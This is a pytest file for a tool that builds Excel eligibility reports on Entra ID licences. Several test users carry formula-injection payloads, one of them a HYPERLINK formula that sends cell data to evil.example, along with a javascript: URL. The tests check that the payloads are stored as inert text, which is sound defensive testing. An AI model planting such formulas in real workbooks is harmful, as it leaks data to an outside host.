"""The eligibility workbook and the generic engine behind it (toolkit.report.workbook / eligibility)."""

import datetime as dt
import os
import re
import zipfile

import openpyxl
import pandas as pd
import pytest
from openpyxl.worksheet._writer import ALL_TEMP_FILES

from toolkit.clouds import get_cloud
from toolkit.errors import InputError
from toolkit.frames import ELIGIBILITY, SEATS, SKUS, conform
from toolkit.report import build_workbook, parse_definition, write_eligibility_workbook
from toolkit.report import workbook as wbmod

UIDS = [f"{i:08d}-0000-4000-8000-000000000000" for i in range(1, 6)]
INJECTIONS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click me")', "+1", "-2+3", "@SUM(1)", "\t=1"]
STATUSES = {
    "eligible": ("Eligible", "Has the licences cross-tenant sync needs.", ""),
    "missing_p1": ("Missing P1", "No Entra ID P1 service plan.", "Assign a licence that includes Entra ID P1."),
    "account_disabled": ("Account disabled", "accountEnabled is false.", "Enable the account or leave it out."),
    "missing_governance": ("Missing ID Governance", "Cross-cloud needs ID Governance.", "Assign ID Governance."),
}
SUMMARY = {"tenantId": "aaaaaaaa-0000-4000-8000-000000000000", "tenantName": "Contoso", "sourceCloud": "gcch",
           "targetCloud": "commercial", "pairKind": "cross-cloud", "usersTotal": 5, "usersInScope": 4,
           "eligible": 2, "notEligible": 3, "byStatus": {"eligible": 2, "missing_p1": 1}}
WHEN = dt.datetime(2026, 3, 4, 5, 6, 7, tzinfo=dt.timezone.utc)


def users_frame():
    rows = [
        dict(userId=UIDS[0], userPrincipalName="adele@contoso.us", displayName="Adele Vance", accountEnabled=True,
             userType="Member", inScope=True, eligible=True, status="eligible", reason="",
             p1Plan="AAD_PREMIUM", p1SkuPartNumber="SPE_E5_USGOV_GCCHIGH", p1Source="direct",
             portalUrl=get_cloud("gcch").user_portal_url(UIDS[0])),
        dict(userId=UIDS[1], userPrincipalName=INJECTIONS[0], displayName=INJECTIONS[1], accountEnabled=True,
             userType="Member", inScope=True, eligible=False, status="missing_p1", reason=INJECTIONS[2],
             fix=INJECTIONS[3], p1Source=INJECTIONS[4]),                 # no portalUrl: filled from sourceCloud
        dict(userId=UIDS[2], userPrincipalName="bell\x07@contoso.us", displayName="Null\x00Byte \x1b[31m",
             accountEnabled=False, userType="Member", inScope=True, eligible=False, status="account_disabled",
             reason="Line one\nline two"),
        dict(userId=UIDS[3], userPrincipalName="eve@contoso.us", displayName="Eve", accountEnabled=True,
             userType="Guest", inScope=False, eligible=False, status="brand_new_status", reason="?",
             portalUrl="javascript:alert(1)"),
        dict(userId=UIDS[4], userPrincipalName="gov@contoso.us", displayName="Gov", accountEnabled=True,
             userType="Member", inScope=True, eligible=True, status="eligible", reason=""),
    ]
    return conform(rows, ELIGIBILITY)


def seats_frame():
    return conform([
        dict(entitlement="Entra ID P1", skuId="s1", skuPartNumber="SPE_E5_USGOV_GCCHIGH", capabilityStatus="Enabled",
             prepaid=10, consumedUnits=9, available=1, needed=4, shortfall=3),
        dict(entitlement="ID Governance", skuId="s2", skuPartNumber="Microsoft_Entra_ID_Governance",
             capabilityStatus="Warning", prepaid=5, consumedUnits=1, available=4, needed=4, shortfall=0),
    ], SEATS)


def skus_frame():
    return conform([
        dict(skuId="s1", skuPartNumber="SPE_E5_USGOV_GCCHIGH", appliesTo="User", capabilityStatus="Enabled",
             enabled=10, warning=0, suspended=0, lockedOut=0, consumedUnits=9, available=1),
        dict(skuId="s2", skuPartNumber="Microsoft_Entra_ID_Governance", appliesTo="User",
             capabilityStatus="Suspended", enabled=0, warning=0, suspended=5, lockedOut=0, consumedUnits=1,
             available=-1),
    ], SKUS)


@pytest.fixture(scope="module")
def workbook_path(tmp_path_factory):
    path = tmp_path_factory.mktemp("elig") / "eligibility.xlsx"
    out = write_eligibility_workbook(path, users_frame(), seats_frame(), skus_frame(), SUMMARY, STATUSES,
                                     generated_at=WHEN)
    assert out == path
    return path


@pytest.fixture(scope="module")
def wb(workbook_path):
    return openpyxl.load_workbook(workbook_path)


def _sheet_xml(path, sheet_title):
    book = openpyxl.load_workbook(path, read_only=True)
    index = book.sheetnames.index(sheet_title) + 1
    book.close()
    with zipfile.ZipFile(path) as z:
        return z.read(f"xl/worksheets/sheet{index}.xml").decode("utf-8")


def _header(ws):
    return [c.value for c in next(ws.iter_rows(min_row=1, max_row=1))]


def _rows_by_upn(ws):
    header = _header(ws)
    col = header.index("userPrincipalName")
    return {row[col].value: dict(zip(header, row)) for row in ws.iter_rows(min_row=2)}


def test_sheets_in_definition_order(wb):
    assert wb.sheetnames == ["Summary", "Users", "SKUs", "Legend"]


def test_users_sheet_is_a_filterable_table_with_frozen_header(wb):
    ws = wb["Users"]
    assert ws.freeze_panes == "A2"
    (table,) = ws.tables.values()
    assert table.ref == "A1:P6"                     # 16 columns, header + 5 users
    assert table.autoFilter is not None and table.autoFilter.ref == "A1:P6"
    assert table.tableStyleInfo.name == "TableStyleMedium2"
    header = _header(ws)
    assert header[:4] == ["userPrincipalName", "displayName", "Status", "Eligible"]
    assert [c.name for c in table.tableColumns] == header     # Excel requires exact equality
    assert ws.column_dimensions["H"].width == 50               # Reason: width from the definition


def test_status_fills_follow_the_palette_with_a_default(wb):
    rows = _rows_by_upn(wb["Users"])
    fill = {upn: row["Status"].fill.fgColor.rgb[-6:] for upn, row in rows.items()}
    assert fill["adele@contoso.us"] == "C6EFCE"          # eligible
    assert fill[INJECTIONS[0]] == "FFC7CE"               # missing_p1
    assert fill["eve@contoso.us"] == "F2F2F2"            # a status the definition does not know
    assert rows["adele@contoso.us"]["displayName"].fill.fill_type is None


def test_users_link_to_their_page_in_the_source_clouds_entra_admin_center(wb):
    rows = _rows_by_upn(wb["Users"])
    gcch = get_cloud("gcch")
    for upn, uid in (("adele@contoso.us", UIDS[0]), (INJECTIONS[0], UIDS[1]), ("gov@contoso.us", UIDS[4])):
        cell = rows[upn]["userPrincipalName"]
        assert cell.hyperlink is not None and cell.hyperlink.target == gcch.user_portal_url(uid)
        assert cell.hyperlink.target.startswith("https://entra.microsoft.us/")
        assert cell.value == upn                             # displayed as the UPN
    assert rows["eve@contoso.us"]["userPrincipalName"].hyperlink is None     # javascript: is never linked


def test_formula_payloads_are_stored_as_text_and_no_formula_exists(workbook_path, wb):
    rows = _rows_by_upn(wb["Users"])
    row = rows[INJECTIONS[0]]
    stored = [row["userPrincipalName"], row["displayName"], row["Reason"], row["What to do"], row["P1 source"]]
    assert [c.value for c in stored] == INJECTIONS
    for cell in stored:
        assert cell.data_type == "s" and cell.quotePrefix is True
    for title in wb.sheetnames:
        xml = _sheet_xml(workbook_path, title)
        assert "<f>" not in xml and "<f " not in xml, title


def test_control_characters_are_dropped_not_fatal(wb):
    rows = _rows_by_upn(wb["Users"])
    row = rows["bell@contoso.us"]
    assert row["displayName"].value == "NullByte [31m"
    assert row["Reason"].value == "Line one\nline two"
    assert row["accountEnabled"].value is False and row["Eligible"].value is False


def test_summary_has_figures_status_counts_chart_and_seats(workbook_path, wb):
    ws = wb["Summary"]
    cells = {(c.row, c.column): c.value for row in ws.iter_rows() for c in row if c.value is not None}
    assert cells[(1, 1)] == "Licence eligibility for cross-tenant sync: Contoso"
    figures = {ws.cell(r, 1).value: ws.cell(r, 2).value for r in range(3, 13)}
    assert figures["Source tenant"] == "Contoso" and figures["Source cloud"] == "gcch"
    assert figures["Users"] == 5 and figures["Not eligible (in scope)"] == 3
    assert figures["Generated (UTC)"] == dt.datetime(2026, 3, 4, 5, 6, 7)
    labels = [c.value for c in ws["A"]]
    start = labels.index("Status")
    counts = {ws.cell(r, 1).value: ws.cell(r, 2).value for r in range(start + 2, start + 7)
              if ws.cell(r, 1).value}
    assert counts == {"eligible": 2, "missing_p1": 1, "account_disabled": 1, "brand_new_status": 1}
    # Ordered as the status vocabulary, unknown values last.
    assert [ws.cell(r, 1).value for r in range(start + 2, start + 6)] == [
        "eligible", "missing_p1", "account_disabled", "brand_new_status"]
    assert ws.cell(start + 2, 1).fill.fgColor.rgb[-6:] == "C6EFCE"
    assert len(ws._charts) == 1
    with zipfile.ZipFile(workbook_path) as z:
        chart = z.read("xl/charts/chart1.xml").decode()
    assert "<c:barChart>" in chart or "<barChart>" in chart
    assert f"'Summary'!$A${start + 2}:$A${start + 5}" in chart
    seats_at = labels.index("Entitlement")
    assert [c.value for c in ws[seats_at + 1]][:8] == [
        "Entitlement", "SKU (skuPartNumber)", "capabilityStatus", "Prepaid (enabled)", "consumedUnits",
        "Available", "Needed", "Shortfall"]
    p1 = [c for c in ws[seats_at + 2]]
    assert p1[7].value == 3 and p1[7].fill.fgColor.rgb[-6:] == "FFC7CE"          # shortfall > 0
    gov = [c for c in ws[seats_at + 3]]
    assert gov[7].value == 0 and gov[7].fill.fill_type is None
    assert gov[2].fill.fgColor.rgb[-6:] == "FFEB9C"                                # Warning


def test_legend_lists_every_status_with_its_colour(wb):
    ws = wb["Legend"]
    values = [[c.value for c in row] for row in ws.iter_rows()]
    start = values.index(["Status", "Label", "Meaning", "What to do"])
    listed = [r[0] for r in values[start + 1:start + 1 + len(STATUSES)]]
    assert listed == list(STATUSES)
    assert values[start + 2][1:] == list(STATUSES["missing_p1"])
    assert ws.cell(start + 2, 1).fill.fgColor.rgb[-6:] == "C6EFCE"
    assert values[start + 1 + len(STATUSES)] == [None, None, None, None]           # nothing else in the table
    flat = [v for r in values for v in r]
    assert "userPrincipalName" in flat and "portalUrl" not in flat[:start]


def test_skus_sheet(wb):
    ws = wb["SKUs"]
    (table,) = ws.tables.values()
    assert table.ref == "A1:J3" and ws.freeze_panes == "A2"
    assert ws["D3"].value == "Suspended" and ws["D3"].fill.fgColor.rgb[-6:] == "FFC7CE"
    assert ws["J3"].value == -1 and ws["J3"].fill.fgColor.rgb[-6:] == "FFC7CE"
    assert ws["E2"].number_format == "#,##0"


def test_empty_inputs_still_make_a_valid_workbook(tmp_path):
    path = write_eligibility_workbook(tmp_path / "empty.xlsx", pd.DataFrame(), pd.DataFrame(), pd.DataFrame(),
                                      SUMMARY, STATUSES)
    wb = openpyxl.load_workbook(path)
    (table,) = wb["Users"].tables.values()
    assert table.ref == "A1:P2"                       # Excel tables need one (empty) data row
    assert len(wb["Summary"]._charts) == 0            # nothing to chart


# --- the engine: atomic writes and errors --------------------------------------------------------------------

def _write(path):
    return write_eligibility_workbook(path, users_frame(), seats_frame(), skus_frame(), SUMMARY, STATUSES)


def test_failure_while_saving_leaves_no_partial_file(tmp_path, monkeypatch):
    target = tmp_path / "report.xlsx"
    target.write_bytes(b"previous workbook")
    real_save = openpyxl.Workbook.save

    def crash(self, filename):
        with open(filename, "wb") as fh:
            fh.write(b"PK\x03\x04 half a zip")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(openpyxl.Workbook, "save", crash)
    streamed_before = list(ALL_TEMP_FILES)
    with pytest.raises(InputError) as info:
        _write(target)
    assert ALL_TEMP_FILES == streamed_before          # openpyxl's per-sheet temp files are gone too
    assert "No space left" in str(info.value) and str(target) in str(info.value)
    assert target.read_bytes() == b"previous workbook"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.xlsx"]
    monkeypatch.setattr(openpyxl.Workbook, "save", real_save)
    _write(target)
    assert zipfile.is_zipfile(target)


def test_locked_file_says_to_close_it_in_excel(tmp_path, monkeypatch):
    target = tmp_path / "report.xlsx"

    def locked(src, dst):
        raise PermissionError(13, "Permission denied", str(dst))

    monkeypatch.setattr(wbmod.os, "replace", locked)
    with pytest.raises(InputError) as info:
        _write(target)
    assert str(target) in str(info.value) and "close it" in str(info.value).lower()
    assert list(tmp_path.iterdir()) == []


def test_missing_folder_and_wrong_extension(tmp_path):
    with pytest.raises(InputError, match="does not exist"):
        _write(tmp_path / "no" / "report.xlsx")
    with pytest.raises(InputError, match=r"\.xlsx"):
        _write(tmp_path / "report.xls")


def test_replaced_file_keeps_its_permissions(tmp_path):
    target = tmp_path / "report.xlsx"
    _write(target)
    os.chmod(target, 0o640)
    _write(target)
    assert target.stat().st_mode & 0o777 == 0o640


def test_missing_column_or_value_is_named_before_writing(tmp_path):
    d = parse_definition({"name": "t", "sheets": [
        {"name": "S", "kind": "summary", "sections": [{"kind": "figures", "figures": [{"key": "nope"}]}]},
        {"name": "U", "kind": "table", "frame": "users", "columns": ["userPrincipalName", "jobTitle"]}]},
        source="reports/t.json")
    frames = {"users": pd.DataFrame({"userPrincipalName": ["a"]})}
    with pytest.raises(InputError) as info:
        build_workbook(d, tmp_path / "t.xlsx", frames=frames)
    assert "jobTitle" in str(info.value) and "reports/t.json" in str(info.value)
    frames["users"]["jobTitle"] = ["x"]
    with pytest.raises(InputError) as info:
        build_workbook(d, tmp_path / "t.xlsx", frames=frames)
    assert "'nope'" in str(info.value)
    with pytest.raises(InputError, match="no DataFrame named 'users'"):
        build_workbook(d, tmp_path / "t.xlsx", frames={})
    assert list(tmp_path.iterdir()) == []


# --- the engine: Excel limits -------------------------------------------------------------------------------

def _generic(overflow="split"):
    return parse_definition({
        "name": "generic", "title": "Generic",
        "palettes": {"op": {"colors": {"create": "C6EFCE", "delete": "FFC7CE"}}},
        "sheets": [
            {"name": "Summary", "kind": "summary", "title": "Plan {plan.name}", "sections": [
                {"kind": "counts", "title": "Operations", "frame": "ops", "column": "op", "label": "Operation",
                 "chart": "pie", "order": "value", "palette": "op"}]},
            {"name": "Ops", "kind": "table", "frame": "ops", "overflow": overflow, "style": "TableStyleLight9",
             "columns": [{"name": "upn", "label": "UPN", "link": "url"},
                         {"name": "op", "label": "Operation", "palette": "op"},
                         {"name": "when", "label": "When (UTC)"}]}]})


def _ops(n):
    return pd.DataFrame({"upn": [f"u{i}@x" for i in range(n)],
                         "op": ["create", "delete", "update"] * (n // 3) + ["create"] * (n % 3),
                         "url": [f"https://example.test/{i}" for i in range(n)],
                         "when": pd.to_datetime(["2026-01-02T03:04:05+02:00"] * n, utc=True)})


def test_generic_definition_pie_chart_values_and_datetimes(tmp_path):
    path = build_workbook(_generic(), tmp_path / "g.xlsx", frames={"ops": _ops(5)},
                          values={"plan": {"name": "Q1"}})
    wb = openpyxl.load_workbook(path)
    assert wb["Summary"]["A1"].value == "Plan Q1"
    assert wb["Summary"]._charts and type(wb["Summary"]._charts[0]).__name__ == "PieChart"
    ops = wb["Ops"]
    assert ops["C2"].value == dt.datetime(2026, 1, 2, 1, 4, 5)          # naive UTC
    assert ops["C2"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert ops["B4"].value == "update" and ops["B4"].fill.fill_type is None   # no colour, no default
    assert ops["A2"].hyperlink.target == "https://example.test/0"


def test_big_tables_are_split_across_sheets(tmp_path, monkeypatch):
    monkeypatch.setattr(wbmod, "MAX_DATA_ROWS", 3)
    path = build_workbook(_generic(), tmp_path / "s.xlsx", frames={"ops": _ops(7)})
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Summary", "Ops", "Ops (2)", "Ops (3)"]
    refs = [next(iter(wb[n].tables.values())).ref for n in wb.sheetnames[1:]]
    assert refs == ["A1:C4", "A1:C4", "A1:C2"]
    names = [next(iter(wb[n].tables)) for n in wb.sheetnames[1:]]
    assert len(set(names)) == 3 and all(re.fullmatch(r"tbl\w+", n) for n in names)
    assert [wb[n]["A2"].value for n in wb.sheetnames[1:]] == ["u0@x", "u3@x", "u6@x"]


def test_big_tables_can_be_refused_instead(tmp_path, monkeypatch):
    monkeypatch.setattr(wbmod, "MAX_DATA_ROWS", 3)
    with pytest.raises(InputError) as info:
        build_workbook(_generic("refuse"), tmp_path / "r.xlsx", frames={"ops": _ops(4)})
    assert "Ops" in str(info.value) and "CSV" in str(info.value)
    assert list(tmp_path.iterdir()) == []


def test_beyond_excels_hyperlink_limit_urls_become_a_text_column(tmp_path, monkeypatch):
    monkeypatch.setattr(wbmod, "MAX_HYPERLINKS", 2)
    path = build_workbook(_generic(), tmp_path / "h.xlsx", frames={"ops": _ops(3)})
    ws = openpyxl.load_workbook(path)["Ops"]
    assert _header(ws) == ["UPN", "Operation", "When (UTC)", "url"]
    assert all(c.hyperlink is None for c in ws["A"])
    assert ws["D4"].value == "https://example.test/2"


def test_counts_name_missing_values_instead_of_hiding_them(tmp_path):
    ops = _ops(3)
    ops["op"] = pd.array(["create", None, "create"], dtype="string")
    wb = openpyxl.load_workbook(build_workbook(_generic(), tmp_path / "n.xlsx", frames={"ops": ops}))
    ws = wb["Summary"]
    rows = [[c.value for c in r][:2] for r in ws.iter_rows()]
    start = rows.index(["Operation", "Count"])
    assert rows[start + 1:start + 3] == [["(none)", 1], ["create", 2]]


def test_optional_figures_are_left_out_when_missing_or_empty(tmp_path):
    summary = {k: v for k, v in SUMMARY.items() if k != "tenantName"}
    summary.update(notes=[], entitlements={"P1": {"shortfall": 3}})
    path = write_eligibility_workbook(tmp_path / "o.xlsx", users_frame(), seats_frame(), skus_frame(), summary,
                                      STATUSES)
    ws = openpyxl.load_workbook(path)["Summary"]
    labels = [c.value for c in ws["A"]]
    assert ws["A1"].value.endswith(SUMMARY["tenantId"])          # the title falls back to the tenant ID
    assert "Notes" not in labels and "Governance seats short" not in labels
    assert ws.cell(labels.index("P1/P2 seats short") + 1, 2).value == 3
